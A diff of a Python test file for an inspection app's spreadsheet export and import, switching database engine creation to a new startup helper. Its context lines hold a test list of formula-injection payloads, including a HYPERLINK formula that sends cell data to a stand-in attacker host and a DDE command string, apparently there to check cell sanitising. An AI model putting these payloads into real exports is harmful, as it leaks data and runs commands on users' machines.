@@ -14,7 +14,7 @@ import pytest
 from openpyxl import load_workbook
 
 from fieldwork.files.cells import safe, unquote
-from fieldwork import audit, db
+from fieldwork import audit, db, startup
 from fieldwork.services import findings, importing, inspections
 from exports import exporting
 from fieldwork.services.permissions import INSPECTOR, Actor, PermissionDenied
@@ -31,7 +31,7 @@ NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
 def demo_db(tmp_path_factory):
     """The demonstration set (112 case_review + 270 pin_review), loaded once for the module."""
     url = new_database_url(tmp_path_factory.mktemp("demo"), "demo", demo=True)
-    engine = db.get_engine(url)
+    engine = startup.open_engine(url)
     yield engine
     db.dispose_all()
     if url.startswith("postgresql"):
@@ -55,7 +55,7 @@ def findings_json(engine, questionnaire: str, by: str | None = None) -> dict:
 
 
 def import_into(url: str, data: bytes, name: str, questionnaire: str):
-    engine = db.get_engine(url)
+    engine = startup.open_engine(url)
     table = importing.read_table(data, name)
     if "meta:inspector" in table.header:  # the receiving database has the inspectors' accounts, as it must
         at = table.header.index("meta:inspector")
